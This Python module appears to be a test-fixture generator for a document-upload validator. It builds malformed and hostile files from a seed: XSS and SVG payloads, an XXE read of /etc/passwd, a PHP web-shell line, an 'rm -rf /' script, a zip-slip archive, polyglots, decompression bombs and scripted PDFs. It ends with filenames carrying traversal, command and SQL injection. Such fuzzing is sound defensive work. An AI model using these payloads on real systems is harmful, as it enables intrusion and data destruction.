"""Files made to harm: what attackers send, and what broken telephones send without meaning to.

Everything is made on the spot, from a seed: nothing harmful is kept in the sources.
"""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pillow_heif
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

SEED = 20_261_124
FLIPS = 20
Named = Iterator[tuple[str, bytes]]
pillow_heif.register_heif_opener()


def picture(kind: str = "JPEG", size: tuple[int, int] = (320, 240), **options: object) -> bytes:
    out = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def written(change: Callable[[PdfWriter], None] | None = None, pages: int = 2) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def dictionary(**entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})  # pyright: ignore[reportArgumentType]


def files() -> Named:
    """Every hostile file, with a name that says what it is."""
    for family in (
        not_documents,
        polyglots,
        truncated,
        flipped,
        bombs,
        active_pdfs,
        broken_pdfs,
        broken_pictures,
    ):
        for name, data in family():
            yield f"{family.__name__}:{name}", data


def not_documents() -> Named:
    yield "one-byte", b"\xff"
    yield "spaces", b" " * 1000
    yield "zeros", bytes(100_000)
    yield "noise", random.Random(SEED).randbytes(100_000)
    yield "text", "Ceci n’est pas un diplôme.".encode()
    yield "html", b"<!doctype html><script>alert(1)</script>"
    yield "svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield (
        "xml-entities",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    )
    yield "php", b"<?php system($_GET['c']);"
    yield "shell", b"#!/bin/sh\nrm -rf /\n"
    yield "elf", b"\x7fELF" + bytes(500)
    yield "exe", b"MZ" + bytes(500)
    yield "eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"
    yield "mp4", b"\0\0\0\x18ftypmp42" + bytes(200)
    yield "mov", b"\0\0\0\x14ftypqt  " + bytes(200)
    yield "bz2", b"BZh91AY&SY" + bytes(100)
    yield "gzip", b"\x1f\x8b\x08" + bytes(100)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("../../etc/cron.d/x", "* * * * * root x")
    yield "zip-slip", archive.getvalue()
    for kind in ("PNG", "GIF", "BMP", "TIFF", "WEBP", "ICO", "PPM", "TGA", "JPEG2000"):
        yield kind.lower(), picture(kind, (32, 32))


def polyglots() -> Named:
    jpeg, pdf = picture(), written()
    script = b"<script>fetch('//ailleurs.example')</script>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("charge.js", "1")
    yield "jpeg-then-zip", jpeg + archive.getvalue()
    yield "jpeg-then-html", jpeg + script
    yield "jpeg-then-php", jpeg + b"<?php phpinfo(); ?>"
    yield "jpeg-then-pdf", jpeg + pdf
    yield "pdf-then-jpeg", pdf + jpeg
    yield "pdf-then-zip", pdf + archive.getvalue()
    yield "html-then-pdf", script + pdf
    yield "gif-then-pdf", b"GIF89a/*" + pdf
    yield "zip-then-pdf", archive.getvalue() + pdf
    yield "far-header", b"\n" * 2000 + pdf
    yield "near-header", b"\n" * 900 + pdf
    yield (
        "script-in-comment",
        jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script + jpeg[2:],
    )
    yield (
        "exif-of-60-kilobytes",
        jpeg[:2] + b"\xff\xe1\xff\xff" + b"Exif\0\0" + bytes(65_527) + jpeg[2:],
    )
    yield "two-jpegs", jpeg + jpeg
    yield "two-pdfs", pdf + pdf


def boundaries(data: bytes, marks: re.Pattern[bytes], most: int) -> list[int]:
    places = [found.start() for found in marks.finditer(data)]
    step = max(1, len(places) // most)
    return places[::step]


def truncated() -> Named:
    jpeg, pdf, heic = picture(), written(), picture("HEIF")
    for place in boundaries(jpeg, re.compile(rb"\xff[\xc0-\xfe]"), 12):
        yield f"jpeg-at-{place}", jpeg[:place]
        yield f"jpeg-after-{place}", jpeg[: place + 3]
    for place in boundaries(pdf, re.compile(rb"endobj|\d obj|xref|trailer|startxref|%%EOF|<<"), 16):
        yield f"pdf-at-{place}", pdf[:place]
        yield f"pdf-after-{place}", pdf[: place + 4]
    for place in boundaries(heic, re.compile(rb"ftyp|meta|hdlr|iloc|iinf|infe|iprp|ipco|mdat"), 12):
        yield f"heic-at-{place}", heic[:place]
        yield f"heic-after-{place}", heic[: place + 6]


def flipped() -> Named:
    draw = random.Random(SEED)
    for kind, data in (("jpeg", picture()), ("pdf", written()), ("heic", picture("HEIF"))):
        for number in range(FLIPS):
            changed = bytearray(data)
            for _ in range(1 + number % 4):
                changed[draw.randrange(12, len(changed))] = draw.randrange(256)
            yield f"{kind}-{number}", bytes(changed)


def of_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The same picture, which claims to be larger."""
    place = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:place] + struct.pack(">HH", height, width) + jpeg[place + 4 :]


def stream(data: bytes, **entries: object) -> StreamObject:
    made = StreamObject()
    made._data = zlib.compress(data, 9)  # noqa: SLF001 - a stream that says what it likes
    made[NameObject("/Filter")] = NameObject("/FlateDecode")
    for key, value in entries.items():
        made[NameObject(f"/{key}")] = value  # pyright: ignore[reportArgumentType]
    return made


def drawing(content: StreamObject, **resources: object) -> bytes:
    def change(writer: PdfWriter) -> None:
        page = writer.pages[0]
        page[NameObject("/Contents")] = writer._add_object(content)  # noqa: SLF001 - idem
        page[NameObject("/Resources")] = dictionary(**resources)

    return written(change, 1)


def picture_in_pdf(width: int, height: int, data: bytes) -> bytes:
    image = stream(
        data,
        Type=NameObject("/XObject"),
        Subtype=NameObject("/Image"),
        Width=NumberObject(width),
        Height=NumberObject(height),
        ColorSpace=NameObject("/DeviceRGB"),
        BitsPerComponent=NumberObject(8),
    )
    return drawing(stream(b"500 0 0 500 0 0 cm /I Do"), XObject=dictionary(I=image))


def bombs() -> Named:
    for width, height in ((65_500, 65_500), (65_500, 1), (1, 65_500), (30_000, 30_000), (0, 100)):
        yield f"jpeg-{width}x{height}", of_size(picture(), width, height)
    yield "jpeg-60-megapixels", picture(size=(10_000, 6_000))
    yield "pdf-zeros", drawing(stream(bytes(200_000_000)))
    yield "pdf-many-operators", drawing(stream(b"0 0 m 9 9 l S\n" * 3_000_000))
    yield "pdf-nested-saves", drawing(stream(b"q " * 5_000_000))
    yield "pdf-huge-picture", picture_in_pdf(60_000, 60_000, bytes(1_000_000))
    yield "pdf-picture-of-nothing", picture_in_pdf(60_000, 60_000, b"")
    yield "pdf-twice-compressed", drawing(stream(zlib.compress(bytes(100_000_000))))
    yield "pdf-giant-page", written(lambda w: w.add_blank_page(10**7, 10**7) and None, 1)
    yield "pdf-page-of-nothing", written(lambda w: w.add_blank_page(0, 0) and None, 1)
    yield "pdf-5000-pages", written(pages=5_000)
    yield "pdf-21-pages", written(pages=21)
    yield "pdf-deep-array", b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\n"
    yield "pdf-long-name", b"%PDF-1.4\n1 0 obj\n<< /" + b"a" * 3_000_000 + b" 1 >>\nendobj\n"
    yield "pdf-long-number", written().replace(b"595", b"5" * 100_000)


def active_pdfs() -> Named:
    def script(**extra: object) -> DictionaryObject:
        entries = {"S": NameObject("/JavaScript"), "JS": TextStringObject("app.alert(1)")}
        return dictionary(**{**entries, **extra})

    def root(key: str, value: object) -> bytes:
        return written(lambda w: w.root_object.__setitem__(NameObject(key), value))  # pyright: ignore[reportArgumentType]

    def page(key: str, value: object) -> bytes:
        return written(lambda w: w.pages[0].__setitem__(NameObject(key), value))  # pyright: ignore[reportArgumentType]

    def link(action: DictionaryObject) -> bytes:
        note = dictionary(Subtype=NameObject("/Link"), A=action)
        return page("/Annots", ArrayObject([note]))

    yield "open-action", root("/OpenAction", script())
    yield "root-actions", root("/AA", dictionary(WC=script()))
    yield (
        "named-script",
        root(
            "/Names",
            dictionary(JavaScript=dictionary(Names=ArrayObject([TextStringObject("a"), script()]))),
        ),
    )
    yield "page-action", page("/AA", dictionary(O=script()))
    yield "xfa", root("/AcroForm", dictionary(XFA=TextStringObject("<xdp:xdp/>")))
    yield (
        "form-script",
        root("/AcroForm", dictionary(Fields=ArrayObject([dictionary(AA=dictionary(K=script()))]))),
    )
    yield "uri-script", root("/URI", dictionary(Base=TextStringObject("javascript:alert(1)")))
    for kind, key, value in (
        ("Launch", "F", "cmd.exe"),
        ("URI", "URI", "https://ailleurs.example"),
        ("GoToR", "F", "//serveur/partage"),
        ("GoToE", "F", "autre.pdf"),
        ("SubmitForm", "F", "https://ailleurs.example"),
        ("ImportData", "F", "donnees.fdf"),
        ("Rendition", "JS", "app.alert(1)"),
        ("Sound", "Sound", "x"),
        ("Movie", "T", "x"),
        ("Named", "N", "Print"),
    ):
        action = dictionary(**{"S": NameObject(f"/{kind}"), key: TextStringObject(value)})
        yield f"link-{kind}", link(action)
    for kind in ("RichMedia", "3D", "Screen", "FileAttachment", "Widget", "Movie", "Sound"):
        note = dictionary(Subtype=NameObject(f"/{kind}"), A=script())
        yield f"note-{kind}", page("/Annots", ArrayObject([note]))
    yield "attachment", written(lambda w: w.add_attachment("charge.exe", b"MZ") and None)
    yield "portfolio", root("/Collection", dictionary(View=NameObject("/D")))
    yield "thread", page("/B", ArrayObject([dictionary(T=script())]))
    yield "associated-file", page("/AF", ArrayObject([dictionary(EF=dictionary(F=stream(b"MZ")))]))
    yield "outline", written(lambda w: w.add_outline_item(title="x", page_number=0) and None)
    outside = stream(b"0 0 m", F=TextStringObject("file:///etc/passwd"))
    yield "stream-outside", drawing(outside)
    for cipher in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        yield f"encrypted-{cipher}", written(lambda w, c=cipher: w.encrypt("secret", algorithm=c))
    yield (
        "encrypted-without-password",
        written(lambda w: w.encrypt("", "maitre", algorithm="RC4-128")),
    )


def broken_pdfs() -> Named:
    pdf = written()
    yield "header-only", b"%PDF-1.7\n"
    yield "header-and-end", b"%PDF-1.7\n%%EOF\n"
    yield "no-pages", written(pages=0)
    yield "no-root", pdf.replace(b"/Root", b"/Rout")
    yield "root-is-a-number", re.sub(rb"/Root \d+ 0 R", b"/Root 42", pdf)
    yield "root-elsewhere", re.sub(rb"/Root \d+ 0 R", b"/Root 99 0 R", pdf)
    yield "wrong-count", pdf.replace(b"/Count 2", b"/Count 9")
    yield "negative-count", pdf.replace(b"/Count 2", b"/Count -2")
    yield "kids-of-themselves", re.sub(rb"/Kids \[[^]]*\]", b"/Kids [ 1 0 R 1 0 R ]", pdf)
    yield "kids-of-nothing", re.sub(rb"/Kids \[[^]]*\]", b"/Kids [ 98 0 R 99 0 R ]", pdf)
    yield "start-far-away", re.sub(rb"startxref\s+\d+", b"startxref\n99999999", pdf)
    yield "start-negative", re.sub(rb"startxref\s+\d+", b"startxref\n-1", pdf)
    yield "xref-loop", re.sub(rb"trailer\s*<<", b"trailer\n<< /Prev 15 ", pdf)
    start = re.search(rb"startxref\s+(\d+)", pdf)
    here = start.group(1) if start else b"0"
    yield "xref-of-itself", re.sub(rb"trailer\s*<<", b"trailer\n<< /Prev " + here + b" ", pdf)
    yield "size-of-millions", re.sub(rb"/Size \d+", b"/Size 999999999", pdf)
    yield "box-of-words", pdf.replace(b"/MediaBox", b"/MediaBix")
    yield "box-of-nothing", re.sub(rb"/MediaBox \[[^]]*\]", b"/MediaBox [ ]", pdf)
    yield "box-upside-down", re.sub(rb"/MediaBox \[[^]]*\]", b"/MediaBox [ 500 500 0 0 ]", pdf)
    yield "box-not-a-number", re.sub(rb"/MediaBox \[[^]]*\]", b"/MediaBox [ 0 0 (a) null ]", pdf)
    yield "version-unknown", b"%PDF-9.9" + pdf[8:]
    yield "unfinished-string", pdf.replace(b"endobj", b"(", 1)
    yield "form-feeds", pdf.replace(b"\n", b"\x0c")
    yield "stream-length-wrong", drawing(stream(b"q Q")).replace(b"/Length", b"/Longth")
    yield "filter-unknown", drawing(stream(b"q Q")).replace(b"FlateDecode", b"FlutDecode")
    yield "filter-wrong", drawing(stream(b"q Q")).replace(b"/FlateDecode", b"/DCTDecode  ")
    yield (
        "filters-by-the-hundred",
        drawing(
            stream(
                b"q Q",
                DecodeParms=ArrayObject(
                    [dictionary(Predictor=NumberObject(15), Columns=NumberObject(2**31 - 1))]
                ),
            )
        ),
    )


def broken_pictures() -> Named:
    jpeg, heic = picture(), picture("HEIF")
    yield "start-and-end", b"\xff\xd8\xff\xd9"
    yield "start-only", b"\xff\xd8\xff"
    yield "no-end", jpeg[:-2]
    yield "no-tables", jpeg.replace(b"\xff\xdb", b"\xff\xef")
    yield "no-codes", jpeg.replace(b"\xff\xc4", b"\xff\xef")
    yield "segment-of-zero", jpeg[:2] + b"\xff\xe0\0\0" + jpeg[4:]
    yield "segment-too-long", jpeg[:2] + b"\xff\xe0\xff\xff" + jpeg[6:]
    yield (
        "turned-to-nowhere",
        picture(exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x63\0\0"),
    )
    yield (
        "exif-of-itself",
        picture(exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08"),
    )
    yield "profile-of-noise", picture(icc_profile=random.Random(SEED).randbytes(5_000))
    yield "progressive", picture(progressive=True)
    yield "four-inks", _cmyk()
    yield "heic-brand-only", heic[:40]
    yield "heic-without-picture", heic.replace(b"mdat", b"free")
    yield "heic-boxes-of-zero", re.sub(rb"....(?=iprp)", bytes(4), heic, flags=re.DOTALL)
    yield (
        "heic-boxes-of-gigabytes",
        re.sub(rb"....(?=meta)", b"\x7f\xff\xff\xff", heic, flags=re.DOTALL),
    )
    place = heic.index(b"ispe") + 8
    yield (
        "heic-claims-gigapixels",
        heic[:place] + struct.pack(">II", 60_000, 60_000) + heic[place + 8 :],
    )


def _cmyk() -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (64, 64), (10, 200, 30, 4)).save(out, "JPEG")
    return out.getvalue()


NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "/etc/shadow",
    "C:\\fakepath\\recto.jpg",
    "recto.jpg\0.exe",
    "recto.jpg\r\nSet-Cookie: a=b",
    "recto\u202egpj.exe",
    "recto.php.jpg",
    "<img src=x onerror=alert(1)>.jpg",
    "a" * 5_000 + ".jpg",
    "é" * 300 + ".jpg",
    "🪪" * 200,
    "CON",
    "nul.pdf",
    ".",
    "..",
    " ",
    "",
    ".htaccess",
    "%2e%2e%2fetc%2fpasswd",
    "recto.jpg;rm -rf /",
    "$(id).jpg",
    "`id`.jpg",
    "{{7*7}}.jpg",
    "'; DROP TABLE document;--.jpg",
    "\ud800.jpg".encode("utf-8", "replace").decode(),
)
